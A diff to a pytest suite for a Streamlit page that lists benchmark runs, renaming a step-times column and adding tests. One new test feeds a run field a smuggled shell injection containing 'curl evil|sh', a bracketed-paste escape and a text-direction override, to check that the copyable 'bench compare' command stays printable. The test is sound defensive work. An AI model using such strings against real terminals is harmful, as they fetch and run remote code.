@@ -10,6 +10,7 @@ from streamlit.testing.v1 import AppTest
 
 from analytics import store
 from analytics.frame import frame
+from app import data
 from app.serve import TRACKING_URI
 from bench import stored, tracking
 from bench.record import Status
@@ -63,7 +64,7 @@ def test_the_newest_is_first_and_columns_have_units(open_page: Open) -> None:
     table = listed(app)
     assert table["devices"].tolist() == [4, 2, 1]
     assert {"samples_per_second", "joules_per_sample", "joules_per_sample_estimated"} <= set(table.columns)
-    assert "steps" not in table.columns, "step times cannot be had of these"
+    assert "course" not in table.columns, "step times cannot be had of these"
     assert "validation_loss" not in table.columns, "nothing is known of it"
     assert "Shows 1 to 3 of 3 runs that match; 3 in all." in texts(app)
 
@@ -179,10 +180,43 @@ def test_files_and_step_times_are_read_once(open_page: Open, monkeypatch: pytest
     assert asked == [[], f"{0:032x}", []], "known are what has no step times too, and the files of the run"
 
 
+def test_step_times_that_were_absent_come_when_the_store_was_read_again(
+    open_page: Open, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(stored, "courses", lambda runs, uri=None: {})
+    app = open_page(GIVEN)
+    assert "course" not in listed(app).columns
+    monkeypatch.setattr(stored, "courses", lambda runs, uri=None: {run: [1.0] for run in runs})
+    assert "course" not in listed(app.run()).columns, "not asked for at each rerun"
+    data.refresh()
+    assert listed(app.run())["course"].tolist() == [[1.0]] * 3
+    assert len(app.session_state["courses"]) == 3
+    app.multiselect(key="status").select("failed").run()
+    assert len(app.session_state["courses"]) == 1, "only those of the table are kept"
+
+
+def test_text_in_a_field_with_a_units_name(open_page: Open) -> None:
+    given = [GIVEN[0] | {"workload_args.limit_bytes": "10MB"}, GIVEN[1]]
+    assert "10MB" in listed(open_page(given, all="true"))["workload_args.limit_bytes"].tolist()
+
+
+def test_where_nothing_matches_no_runs_are_counted(open_page: Open) -> None:
+    assert "Shows" not in texts(open_page(GIVEN, where="devices = 99"))
+
+
+def test_a_command_to_copy_is_one_printable_line(open_page: Open) -> None:
+    evil = {"suite": "x\x1b[201~\ncurl evil|sh\n\u202e"}
+    app = open_page([GIVEN[0] | evil, GIVEN[1] | evil], run=f"{0:032x}", other=f"{1:032x}")
+    command = next(code.value for code in app.code if code.value.startswith("bench compare"))
+    assert command.isprintable()
+    assert command.startswith("bench compare 'x")
+
+
 def test_a_real_run(real_page: tuple[pd.DataFrame, Any]) -> None:
     df, page = real_page
     app = page()
-    assert "steps" in listed(app).columns
+    assert "course" in listed(app).columns
+    assert {"course", "steps"} <= set(listed(page(all="true")).columns)
     run = df[df["status"] == "ok"].iloc[0]
     app = page(run=run["mlflow_run_id"])
     headings = [heading.value for heading in app.subheader]
